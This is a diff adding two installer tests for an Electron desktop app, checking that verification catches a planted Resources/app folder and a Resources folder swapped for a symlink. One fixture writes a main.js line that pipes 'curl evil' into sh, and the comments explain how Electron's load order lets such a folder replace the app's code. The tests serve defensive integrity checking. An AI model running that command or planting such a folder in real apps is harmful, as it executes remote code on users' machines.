@@ -174,6 +174,50 @@ describe('installing the desktop app', () => {
     ]);
   });
 
+  // Electron loads `Resources/app/` before `app.asar` (its search order is app, app.asar, default_app.asar): a folder added
+  // there replaces the whole app's code without changing one installed file. verify had called such an app intact, and
+  // install "already installed".
+  it('verify names a file or folder added to the installed app, and install puts the release back without it', async () => {
+    const root = await tempDir('root');
+    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-added.zip');
+    const result = await installApp({ manifest, target: 'darwin-arm64', root });
+    const resources = join(result.path, 'Agent Orchestrator.app/Contents/Resources');
+    await mkdir(join(resources, 'app'));
+    await writeFile(join(resources, 'app', 'package.json'), '{"main":"main.js"}');
+    await writeFile(join(resources, 'app', 'main.js'), 'require("child_process").exec("curl evil | sh")');
+    // What Finder writes into a folder someone looked at ("Show Package Contents") is no change to the app.
+    await writeFile(join(resources, '.DS_Store'), 'finder view settings');
+    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
+      ok: false,
+      path: result.path,
+      problems: ['Agent Orchestrator.app/Contents/Resources/app is not part of the release (added after it was installed)'],
+    });
+    const again = await installApp({ manifest, target: 'darwin-arm64', root });
+    expect(again).toMatchObject({ status: 'installed', path: result.path });
+    expect(existsSync(join(resources, 'app'))).toBe(false);
+    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toMatchObject({ ok: true, problems: [] });
+  });
+
+  // Its files copied elsewhere and a link left in its place: each file still hashed as installed (read through the link),
+  // and what was added there (Resources/app/, which Electron runs first) was never looked at.
+  it('verify names a folder of the app replaced by a link to another folder', async () => {
+    const root = await tempDir('root');
+    const manifest = await macManifest(mac, '0.10.0', '/mac-verify-linked.zip');
+    const result = await installApp({ manifest, target: 'darwin-arm64', root });
+    const resources = join(result.path, 'Agent Orchestrator.app/Contents/Resources');
+    const elsewhere = join(await tempDir('elsewhere'), 'Resources');
+    execFileSync('cp', ['-a', resources, elsewhere]);
+    await mkdir(join(elsewhere, 'app'));
+    await writeFile(join(elsewhere, 'app', 'package.json'), '{"main":"main.js"}');
+    await rm(resources, { recursive: true });
+    await symlink(elsewhere, resources);
+    expect(await verifyApp({ manifest, target: 'darwin-arm64', root })).toEqual({
+      ok: false,
+      path: result.path,
+      problems: ['Agent Orchestrator.app/Contents/Resources is no longer a folder'],
+    });
+  });
+
   it('install repairs an installed app whose files were deleted or changed, instead of saying it is already installed (exit 0 over a broken app)', async () => {
     const root = await tempDir('root');
     const manifest = await macManifest(mac, '0.10.0', '/mac-repair.zip');
